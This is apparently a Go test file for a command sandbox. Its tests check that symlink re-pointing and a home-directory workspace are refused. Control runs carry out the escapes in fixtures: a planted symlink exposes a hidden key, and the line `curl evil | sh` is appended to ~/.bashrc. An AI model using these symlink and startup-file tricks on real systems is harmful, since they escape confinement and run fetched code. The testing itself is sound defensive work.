package sandbox

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// These attacks span two runs: the first sandboxed command re-points a
// symlink in the workspace, and the second run, with the very same Config,
// would grant what the link now names. The second Prefix must refuse; the
// control runs the argv the pre-check code built from the re-pointed link
// (the link's target named directly) and shows what it gave away.

func TestPlantedReadLink(t *testing.T) {
	base, _, ws := fixture(t)
	secret := mkdir(t, base, "secret")
	key := writeFile(t, secret, "key", "HIDDEN-KEY")
	mkdir(t, ws, "a", "ro")
	cfg := Config{Workspace: ws, Hidden: []string{secret}, Read: []string{filepath.Join(ws, "a", "ro")}}

	if out, err := inSandbox(t, cfg, fmt.Sprintf(`cd %q && mv a a.old && mkdir a && ln -s %q a/ro && echo planted`, ws, key)); err != nil || !strings.Contains(out, "planted") {
		t.Fatalf("run 1 could not re-point the link, so this test proves nothing: %v: %s", err, out)
	}
	_, err := Prefix(cfg)
	if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Fatalf("run 2: Prefix = %v, want a refusal of the re-pointed read path", err)
	}

	// Control: what run 2 would have mounted, the hidden key bound back
	// over its tmpfs.
	out, err := inSandbox(t, Config{Workspace: ws, Hidden: []string{secret}, Read: []string{key}}, fmt.Sprintf(`cat %q`, key))
	if err != nil || !strings.Contains(out, "HIDDEN-KEY") {
		t.Errorf("control: the re-pointed grant did not expose the key (%v: %s): the test no longer shows the attack", err, out)
	}
}

func TestPlantedWriteLink(t *testing.T) {
	base, _, ws := fixture(t)
	host := mkdir(t, base, "host")
	mkdir(t, ws, "b", "out")
	cfg := Config{Workspace: ws, Write: []string{filepath.Join(ws, "b", "out")}}

	if out, err := inSandbox(t, cfg, fmt.Sprintf(`cd %q && mv b b.old && mkdir b && ln -s %q b/out && echo planted`, ws, host)); err != nil || !strings.Contains(out, "planted") {
		t.Fatalf("run 1 could not re-point the link, so this test proves nothing: %v: %s", err, out)
	}
	_, err := Prefix(cfg)
	if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Fatalf("run 2: Prefix = %v, want a refusal of the re-pointed write path", err)
	}

	out, err := inSandbox(t, Config{Workspace: ws, Write: []string{host}}, fmt.Sprintf(`echo PWNED > %q/x && echo wrote`, host))
	if err != nil || !strings.Contains(out, "wrote") {
		t.Errorf("control: the re-pointed grant did not let the host directory be written (%v: %s)", err, out)
	}
}

// TestPlantedHiddenLink: a hidden path that is a symlink in the workspace
// hides whatever the link names; re-pointed, it would hide a decoy while
// the secret it hid lies open.
func TestPlantedHiddenLink(t *testing.T) {
	base, _, ws := fixture(t)
	secret := mkdir(t, base, "secret")
	writeFile(t, secret, "key", "HIDDEN-KEY")
	if err := os.Symlink(secret, filepath.Join(ws, "creds")); err != nil {
		t.Fatal(err)
	}
	_, err := Prefix(Config{Workspace: ws, Hidden: []string{filepath.Join(ws, "creds")}})
	if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Fatalf("Prefix = %v, want a refusal of a hidden path through a link the sandbox can re-point", err)
	}
	// Named by its target, the same secret is hidden as usual.
	out, _ := inSandbox(t, Config{Workspace: ws, Hidden: []string{secret}}, fmt.Sprintf(`cat %q/key`, secret))
	if strings.Contains(out, "HIDDEN-KEY") {
		t.Errorf("the secret named directly was readable: %s", out)
	}
}

// TestHomeWorkspaceRefused: with the home as the workspace a sandboxed
// command writes the shell's startup files, which run unsandboxed later.
func TestHomeWorkspaceRefused(t *testing.T) {
	base, home, _ := fixture(t)
	const attack = `echo 'curl evil | sh' >> ~/.bashrc`
	for _, ws := range []string{home, base} {
		_, err := Prefix(Config{Workspace: ws})
		if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "home directory") {
			t.Errorf("workspace %s: Prefix = %v, want a refusal naming the home directory", ws, err)
		}
	}
	if _, err := outside(t, attack); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); !strings.Contains(string(b), "evil") {
		t.Errorf("control: the attack did not write ~/.bashrc outside the sandbox: %q", b)
	}
	// A directory under the home is a workspace like any other.
	if _, err := Prefix(Config{Workspace: mkdir(t, home, "project")}); err != nil {
		t.Errorf("a project under the home: %v", err)
	}
}
